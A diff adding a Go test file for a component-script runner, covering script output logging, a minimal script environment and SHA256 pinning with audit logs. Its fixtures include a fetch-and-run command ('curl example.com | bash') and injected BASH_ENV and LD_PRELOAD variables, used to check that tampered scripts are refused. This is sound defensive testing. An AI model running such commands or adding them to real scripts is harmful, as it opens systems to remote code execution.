@@ -0,0 +1,215 @@
+package main
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestProcessComponentScriptsOutput(t *testing.T) {
+	defer func(previous time.Duration) { scriptOutputWaitDelay = previous }(scriptOutputWaitDelay)
+	scriptOutputWaitDelay = 100 * time.Millisecond
+
+	tests := []struct {
+		name     string
+		script   string
+		wantErr  bool
+		logs     []string
+		tail     []string
+		notInErr string
+	}{
+		{
+			name:   "success",
+			script: "echo installed; echo warning >&2",
+			logs:   []string{`"stream":"stdout","line":"installed"`, `"stream":"stderr","line":"warning"`},
+		},
+		{
+			name:    "failure",
+			script:  "echo step 1; printf 'no newline' >&2; exit 3",
+			wantErr: true,
+			logs:    []string{`"line":"step 1"`, `"line":"no newline"`},
+			tail:    []string{"exit status 3", "step 1\nno newline"},
+		},
+		{
+			name:     "failure tail",
+			script:   "for i in $(seq 1 60); do echo line $i; done; exit 1",
+			wantErr:  true,
+			tail:     []string{"line 11\n", "line 60"},
+			notInErr: "line 10\n",
+		},
+		{
+			name:   "background process keeping the output",
+			script: "sleep 60 & echo started",
+			logs:   []string{`"line":"started"`},
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			var logs bytes.Buffer
+			logger := slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
+
+			err := processComponentScripts(logger, "test", "1.0.0", []ComponentScript{{Cmd: test.script}}, NodeMetadata{})
+			if (err != nil) != test.wantErr {
+				t.Fatalf("error = %v, wantErr %v", err, test.wantErr)
+			}
+			for _, log := range test.logs {
+				if !strings.Contains(logs.String(), log) {
+					t.Errorf("expected %s in the logs %q", log, logs.String())
+				}
+			}
+			for _, tail := range test.tail {
+				if !strings.Contains(fmt.Sprint(err), tail) {
+					t.Errorf("expected %q in the error %q", tail, err)
+				}
+			}
+			if test.notInErr != "" && strings.Contains(fmt.Sprint(err), test.notInErr) {
+				t.Errorf("unexpected %q in the error %q", test.notInErr, err)
+			}
+		})
+	}
+}
+
+func TestScriptEnv(t *testing.T) {
+	t.Setenv("HTTPS_PROXY", "http://proxy:3128")
+	t.Setenv("SCW_SECRET_KEY", "secret")
+
+	tests := []struct {
+		name     string
+		script   ComponentScript
+		expected []string
+	}{
+		{
+			name:     "minimal environment",
+			script:   ComponentScript{Cmd: "true"},
+			expected: []string{"HOME=/root", "LANG=C.UTF-8", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"},
+		},
+		{
+			name:     "declared and inherited variables",
+			script:   ComponentScript{Cmd: "true", Env: map[string]string{"PATH": "/opt/bin", "RUNTIME": "containerd"}, InheritEnv: []string{"HTTPS_PROXY", "NO_PROXY"}},
+			expected: []string{"HOME=/root", "HTTPS_PROXY=http://proxy:3128", "LANG=C.UTF-8", "PATH=/opt/bin", "RUNTIME=containerd"},
+		},
+	}
+	for _, test := range tests {
+		env := scriptEnv(test.script)
+		if !slices.Equal(env, test.expected) {
+			t.Errorf("%s: environment = %v, expected %v", test.name, env, test.expected)
+		}
+	}
+
+	// The agent environment is not passed to the script
+	var logs bytes.Buffer
+	logger := slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
+	err := processComponentScripts(logger, "test", "1.0.0", []ComponentScript{{Cmd: "env"}}, NodeMetadata{})
+	if err != nil {
+		t.Fatalf("failed to run script: %v", err)
+	}
+	if strings.Contains(logs.String(), "SCW_SECRET_KEY") || !strings.Contains(logs.String(), `"line":"LANG=C.UTF-8"`) {
+		t.Errorf("unexpected script environment %q", logs.String())
+	}
+}
+
+func TestCheckScriptDigests(t *testing.T) {
+	defer func(previousRoot string) { rootDir = previousRoot }(rootDir)
+	rootDir = t.TempDir()
+
+	err := os.MkdirAll(filepath.Join(rootDir, "opt/setup"), 0755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = os.WriteFile(filepath.Join(rootDir, "opt/setup/setup.sh"), []byte("echo setup"), 0755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fileSum := sha256.Sum256([]byte("echo setup"))
+	fileDigest := hex.EncodeToString(fileSum[:])
+	cmd := "bash /opt/setup/setup.sh"
+
+	env := map[string]string{"CONTAINERD_CONFIG": "/etc/containerd/config.toml"}
+	pinnedEnv := scriptDigest(ComponentScript{Cmd: cmd, Env: env, InheritEnv: []string{"HTTPS_PROXY"}})
+
+	tests := []struct {
+		name     string
+		script   ComponentScript
+		required bool
+		attested bool
+		err      string
+	}{
+		{name: "not pinned", script: ComponentScript{Cmd: cmd}},
+		{name: "not pinned required", script: ComponentScript{Cmd: cmd}, required: true, err: "no sha256 digest"},
+		{name: "pinned", script: ComponentScript{Cmd: cmd, SHA256: scriptDigest(ComponentScript{Cmd: cmd})}, required: true, attested: true},
+		{name: "pinned not attested", script: ComponentScript{Cmd: cmd, SHA256: scriptDigest(ComponentScript{Cmd: cmd})}, required: true, err: "neither attested"},
+		{name: "pinned with environment", script: ComponentScript{Cmd: cmd, Env: env, InheritEnv: []string{"HTTPS_PROXY"}, SHA256: pinnedEnv}},
+		{name: "environment changed", script: ComponentScript{Cmd: cmd, Env: map[string]string{"BASH_ENV": "/tmp/injected"}, SHA256: scriptDigest(ComponentScript{Cmd: cmd})}, err: "command digest"},
+		{name: "inherited environment changed", script: ComponentScript{Cmd: cmd, Env: env, InheritEnv: []string{"HTTPS_PROXY", "LD_PRELOAD"}, SHA256: pinnedEnv}, err: "command digest"},
+		{name: "pinned uppercase", script: ComponentScript{Cmd: cmd, SHA256: strings.ToUpper(scriptDigest(ComponentScript{Cmd: cmd}))}},
+		{name: "command changed", script: ComponentScript{Cmd: cmd + "; curl example.com | bash", SHA256: scriptDigest(ComponentScript{Cmd: cmd})}, err: "command digest"},
+		{name: "file pinned", script: ComponentScript{Cmd: cmd, SHA256: scriptDigest(ComponentScript{Cmd: cmd}), Files: map[string]string{"/opt/setup/setup.sh": fileDigest}}},
+		{name: "file changed", script: ComponentScript{Cmd: cmd, SHA256: scriptDigest(ComponentScript{Cmd: cmd}), Files: map[string]string{"/opt/setup/setup.sh": scriptDigest(ComponentScript{Cmd: "echo other"})}}, err: "script file /opt/setup/setup.sh digest"},
+		{name: "file missing", script: ComponentScript{Cmd: "bash /opt/setup/missing.sh", SHA256: scriptDigest(ComponentScript{Cmd: "bash /opt/setup/missing.sh"}), Files: map[string]string{"/opt/setup/missing.sh": fileDigest}}, err: "failed to open file"},
+		{name: "file not run", script: ComponentScript{Cmd: "true", SHA256: scriptDigest(ComponentScript{Cmd: "true"}), Files: map[string]string{"/opt/setup/setup.sh": fileDigest}}, err: "not run by the command"},
+		{name: "file without command digest", script: ComponentScript{Cmd: cmd, Files: map[string]string{"/opt/setup/setup.sh": fileDigest}}, err: "without the command sha256 digest"},
+	}
+	for _, test := range tests {
+		_, cleanup, err := checkScriptDigests(test.script, test.required, test.attested)
+		cleanup()
+		if test.err == "" && err != nil {
+			t.Errorf("%s: unexpected error: %v", test.name, err)
+		}
+		if test.err != "" && (err == nil || !strings.Contains(err.Error(), test.err)) {
+			t.Errorf("%s: expected error %q, got %v", test.name, test.err, err)
+		}
+	}
+
+	// The pinned script files run from a copy of the bytes checked, even if changed meanwhile
+	script := ComponentScript{Cmd: cmd, SHA256: scriptDigest(ComponentScript{Cmd: cmd}), Files: map[string]string{"/opt/setup/setup.sh": fileDigest}}
+	run, cleanup, err := checkScriptDigests(script, false, false)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	verified := filepath.Join(scriptsDir, fileDigest+".sh")
+	if run != "bash "+verified {
+		t.Errorf("expected the command run with the copy of the script file, got %q", run)
+	}
+	err = os.WriteFile(filepath.Join(rootDir, "opt/setup/setup.sh"), []byte("curl example.com | bash"), 0755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	content, err := os.ReadFile(filepath.Join(rootDir, verified))
+	if err != nil || string(content) != "echo setup" {
+		t.Errorf("expected the script file copied, got %q, %v", content, err)
+	}
+	cleanup()
+	_, err = os.Stat(filepath.Join(rootDir, verified))
+	if !os.IsNotExist(err) {
+		t.Errorf("expected the script file copy removed, got %v", err)
+	}
+
+	// The pinned scripts are audited, the scripts which differ from their digest are refused
+	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
+	err = processComponentScripts(logger, "test", "1.0.0", []ComponentScript{{Cmd: "true", SHA256: scriptDigest(ComponentScript{Cmd: "true"})}}, NodeMetadata{})
+	if err != nil {
+		t.Fatalf("failed to run pinned script: %v", err)
+	}
+	err = processComponentScripts(logger, "test", "1.0.0", []ComponentScript{{Cmd: "touch /tmp/injected", SHA256: scriptDigest(ComponentScript{Cmd: "true"})}}, NodeMetadata{})
+	if err == nil || !strings.Contains(err.Error(), "refused") {
+		t.Fatalf("expected the changed script refused, got %v", err)
+	}
+	audit, err := os.ReadFile(filepath.Join(rootDir, auditLog))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, expected := range []string{`"source":"component test 1.0.0","operation":"script"`, `"status":"started"`, `"status":"succeeded"`, `"status":"denied"`, `"digest":"sha256:` + scriptDigest(ComponentScript{Cmd: "true"})} {
+		if !strings.Contains(string(audit), expected) {
+			t.Errorf("expected %s in the audit log %s", expected, audit)
+		}
+	}
+}